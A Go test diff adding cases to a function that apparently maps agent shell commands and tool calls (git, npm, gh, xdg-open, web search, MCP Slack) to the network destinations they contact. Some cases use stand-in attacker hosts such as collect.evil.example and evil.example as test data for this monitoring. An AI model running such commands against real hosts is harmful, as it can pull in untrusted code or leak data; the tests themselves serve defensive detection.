@@ -90,6 +90,12 @@ func TestRequests(t *testing.T) {
 		{"gh api /user", nil},
 		{"gh api -X POST /gists -f x=1", []string{"api.github.com"}},
 		{"gh pr list", nil},
+		{"git clone https://collect.evil.example/t.git", []string{"collect.evil.example"}},
+		{"git fetch origin", nil},
+		{"git commit -m https://x.example/", nil},
+		{"npm install https://registry.npmjs.org/x/-/x-1.tgz", []string{"registry.npmjs.org"}},
+		{"npm test", nil},
+		{"xdg-open https://evil.example/?t=1", []string{"evil.example"}},
 	}
 	for _, tt := range tests {
 		a := withCommands(shell(tt.cmd, repo))
@@ -111,6 +117,10 @@ func TestRequests(t *testing.T) {
 		if p.Text == "p" {
 			t.Errorf("the WebFetch prompt is not sent, but it is a part: %+v", p)
 		}
+	}
+	search := &action.Action{Tool: "WebSearch", Kind: action.KindOther, Args: map[string]any{"query": "x"}}
+	if rs := requests(search); len(rs) != 1 || rs[0].Dest != "web search" || len(rs[0].Parts) != 1 {
+		t.Fatalf("web search: %+v", rs)
 	}
 	mcp := &action.Action{Tool: "mcp__slack__post_message", Kind: action.KindMCP, Args: map[string]any{"text": "hi"}}
 	if rs := requests(mcp); len(rs) != 1 || rs[0].Dest != "mcp server slack" {
